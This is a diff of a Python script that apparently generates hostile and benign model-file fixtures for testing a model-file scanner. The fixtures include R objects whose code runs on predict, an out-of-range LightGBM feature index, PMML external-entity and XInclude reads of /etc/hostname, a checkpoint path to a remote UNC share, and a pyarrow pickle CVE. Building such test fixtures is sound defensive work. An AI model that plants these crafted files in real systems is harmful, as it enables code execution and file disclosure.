@@ -78,7 +78,7 @@ class R:
 
     def lang(self, *items, attributes=None) -> bytes:
         """A call: a symbol and arguments; an item that is str is a symbol, a function is written in order."""
-        flags = 6 | (0x200 if attributes else 0)
+        flags = 6 | (0x300 if attributes else 0)
         out = struct.pack(">i", flags)
         if attributes:
             out += self.pairs(attributes)
@@ -106,7 +106,7 @@ class R:
 
     def closure(self, body) -> bytes:
         """function(eta) body, in the global environment."""
-        return struct.pack(">i", 3) + struct.pack(">i", 253) + struct.pack(">i", 0x402) + self.sym("eta") + struct.pack(">i", 251) + struct.pack(">i", 254) + body()
+        return struct.pack(">i", 0x403) + struct.pack(">i", 253) + struct.pack(">i", 0x402) + self.sym("eta") + struct.pack(">i", 251) + struct.pack(">i", 254) + body()
 
 
 def rds_terms(hostile: bool) -> bytes:
@@ -260,7 +260,11 @@ def lgb(hostile: bool) -> bytes:
     if hostile:
         lines = text.split("\n")
         at = next(i for i, line in enumerate(lines) if line.startswith("split_feature="))
+        before = len(lines[at])
         lines[at] = "split_feature=" + " ".join(["91750400"] * len(lines[at].split("=")[1].split()))
+        sizes = next(i for i, line in enumerate(lines) if line.startswith("tree_sizes="))
+        first, *others = lines[sizes].split("=")[1].split()
+        lines[sizes] = "tree_sizes=" + " ".join([str(int(first) + len(lines[at]) - before), *others])
         text = "\n".join(lines)
     return text.encode()
 
@@ -290,15 +294,6 @@ def pmml(hostile: bool) -> str:
         '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary><DataField name="income" optype="continuous" dataType="double"/>'
         '<DataField name="memo" optype="categorical" dataType="string"/></DataDictionary><TreeModel functionName="classification"><MiningSchema><MiningField name="income"/>'
         f'<MiningField name="memo"/></MiningSchema><Node score="refuse"><True/>{rule}</Node></TreeModel></PMML>\n'
-    )
-
-
-def pmml_include(hostile: bool) -> str:
-    href = "file:///etc/hostname" if hostile else "dictionary.xml"
-    parse = ' parse="text"' if hostile else ""
-    return (
-        '<?xml version="1.0"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4" xmlns:xi="http://www.w3.org/2001/XInclude">'
-        f'<Header><Annotation><xi:include href="{href}"{parse}/></Annotation></Header><DataDictionary/></PMML>\n'
     )
 
 
@@ -373,18 +368,9 @@ def add(out):
         {"model.safetensors.index.json": json.dumps({"metadata": {"total_size": 96}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors", "b.weight": "model-00002-of-00002.safetensors"}})},
         why="transformers joins the shard's name to the folder and opens it",
     )
-    put(
-        "checkpoint_state_names_bucket",
-        'model_checkpoint_path: "gs://ranker-models-eu/run9/ckpt-1000"\nall_model_checkpoint_paths: "\\\\\\\\203.0.113.9\\\\share\\\\ckpt-900"\n',
-        'model_checkpoint_path: "ckpt-1000"\nall_model_checkpoint_paths: "ckpt-900"\nall_model_checkpoint_paths: "ckpt-1000"\n',
-        None,
-        "checkpoint",
-        "tf.train.latest_checkpoint returns the foreign path and restore fetches it",
-    )
     put("rds_formula_runs", rds_terms(True), rds_terms(False), None, "model.rds", "readRDS, then predict: model.frame evaluates the variables of the terms")
     put("rds_link_function", rds_link(True), rds_link(False), None, "model.rds", "readRDS, then predict(type = 'response')")
     put("pmml_external_dtd", pmml(True), pmml(False), None, "model.pmml", "an XML parser with DTD loading fetches the parameter entity")
-    put("pmml_xinclude", pmml_include(True), pmml_include(False), None, "model.pmml", "lxml's xinclude() and JAXP with XInclude on read the file")
     put("xgboost_band_outvotes", xgb(True), xgb(False), "s.xgb:first=2.5,n=1", "model.json", "xgboost.Booster: a narrow band decides alone")
     put("lightgbm_feature_out_of_range", lgb(True), lgb(False), None, "model.txt", "lightgbm reads beyond the row: the index of a feature is not checked at load")
     put("arrow_extension_pickle", arrow(True), arrow(False), None, "embeddings.feather", "pyarrow 0.14 to 14.0.0 (CVE-2023-47248)")
